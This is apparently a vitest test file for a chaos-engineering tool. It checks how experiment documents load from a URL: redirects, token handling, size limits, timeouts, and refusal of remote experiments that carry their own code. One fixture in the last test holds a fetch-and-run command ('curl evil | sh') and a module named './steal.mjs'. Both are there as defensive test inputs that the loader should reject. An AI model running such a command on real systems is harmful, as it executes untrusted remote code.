import { createServer, type IncomingMessage, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it } from 'vitest';
import { ActivityResolver } from '../resolve/activity-resolver.js';
import { loadExperimentDocument } from './load-experiment-document.js';
import { refuseRemoteCode } from './remote-code.js';

const experiment = 'title: remote\nmethod: []\n';
let streamed = 0;
const seen: Array<{ url?: string; authorization?: string }> = [];
const server = createServer((req: IncomingMessage, res: ServerResponse) => {
  seen.push({ url: req.url, authorization: req.headers.authorization });
  const port = (server.address() as AddressInfo).port;
  if (req.url === '/same-host') return void res.writeHead(302, { location: '/exp.yaml' }).end();
  // 127.0.0.1 and localhost are different hosts for the loader, as they are for a browser.
  if (req.url === '/other-host')
    return void res.writeHead(302, { location: `http://localhost:${port}/exp.yaml` }).end();
  if (req.url === '/loop') return void res.writeHead(302, { location: '/loop' }).end();
  if (req.url === '/hang') return; // never answers
  if (req.url === '/endless') {
    // Gigabytes of YAML, no content-length: only the size limit stops it.
    res.writeHead(200, { 'content-type': 'application/yaml' });
    const chunk = Buffer.alloc(64 * 1024, 'a');
    const pump = () => {
      while (!res.destroyed && streamed < 1 << 30) {
        streamed += chunk.length;
        if (!res.write(chunk)) return void res.once('drain', pump);
      }
      res.end();
    };
    res.on('close', () => res.destroy());
    return void pump();
  }
  res.writeHead(200, { 'content-type': 'application/yaml' }).end(experiment);
});
const base = new Promise<string>((resolve) =>
  server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)),
);
afterAll(() => {
  server.closeAllConnections();
  server.close();
});
const load = async (path: string, options: Parameters<typeof loadExperimentDocument>[1] = { cwd: process.cwd() }) =>
  loadExperimentDocument(`${await base}${path}`, options);

describe('experiments from a URL', () => {
  it('follows a redirect on the same host, sending the token there only', async () => {
    seen.length = 0;
    const doc = await load('/same-host', { cwd: process.cwd(), bearerToken: 'tok' });
    expect(doc).toMatchObject({ value: { title: 'remote' }, remote: true });
    expect(seen.map((s) => s.authorization)).toEqual(['Bearer tok', 'Bearer tok']);
  });

  it('refuses a redirect to another host unless the settings allow it, never sending the token there', async () => {
    await expect(load('/other-host')).rejects.toMatchObject({
      exitCode: 64,
      message: /redirected to another host \(localhost:\d+\)/,
    });
    const port = new URL(await base).port;
    seen.length = 0;
    const doc = await load('/other-host', {
      cwd: process.cwd(),
      bearerToken: 'tok',
      allowedRedirectHosts: [`localhost:${port}`],
    });
    expect(doc.value).toEqual({ title: 'remote', method: [] });
    expect(seen.map((s) => s.authorization)).toEqual(['Bearer tok', undefined]);
    await expect(load('/loop')).rejects.toThrow(/more than 5 redirects/);
  });

  it('cuts a download at the size limit while it streams', async () => {
    const started = performance.now();
    await expect(
      load('/endless', {
        cwd: process.cwd(),
        limits: { maxBytes: 1 << 20, maxDepth: 100, maxAliases: 100, fetchTimeoutMs: 30_000 },
      }),
    ).rejects.toMatchObject({ code: 'E_EXPERIMENT_TOO_LARGE' });
    expect(performance.now() - started).toBeLessThan(10_000);
    // The server stopped well short of its gigabyte (socket buffers let a few megabytes through).
    expect(streamed).toBeLessThan(64 << 20);
  });

  it('gives up on a server that does not answer in time', async () => {
    await expect(
      load('/hang', {
        cwd: process.cwd(),
        limits: { maxBytes: 1 << 20, maxDepth: 100, maxAliases: 100, fetchTimeoutMs: 300 },
      }),
    ).rejects.toThrow(/no complete answer within 0.3s/);
  });

  it('refuses code of its own in a remote experiment: javascript modules, the Python bridge, processes', () => {
    const resolver = new ActivityResolver([
      {
        name: '@faultline/kubernetes',
        pythonPrefixes: ['chaosk8s'],
        aliases: ['kubernetes'],
        load: async () => ({ name: 'k', activities: [] }),
      },
    ]);
    const native = {
      title: 'native drivers only',
      method: [
        {
          type: 'action',
          name: 'a',
          provider: { type: 'python', module: 'chaosk8s.pod.actions', func: 'terminate_pods' },
        },
      ],
      controls: [{ name: 's', provider: { type: 'python', module: 'chaosaddons.controls.safeguards' } }],
    };
    expect(() => refuseRemoteCode(native, resolver, 'http://x/e.yaml')).not.toThrow();
    const own = {
      ...native,
      method: [
        { type: 'action', name: 'js', provider: { type: 'javascript', module: './steal.mjs', func: 'run' } },
        { type: 'action', name: 'py', provider: { type: 'python', module: 'mycompany.chaos', func: 'run' } },
        { type: 'probe', name: 'sh', provider: { type: 'process', path: 'sh', arguments: '-c "curl evil | sh"' } },
      ],
    };
    expect(() => refuseRemoteCode(own, resolver, 'http://x/e.yaml')).toThrow(
      expect.objectContaining({
        exitCode: 64,
        code: 'E_REMOTE_CODE',
        message: expect.stringMatching(
          /javascript module "\.\/steal\.mjs"[\s\S]*python module "mycompany\.chaos"[\s\S]*process "sh"/,
        ),
      }),
    );
  });
});
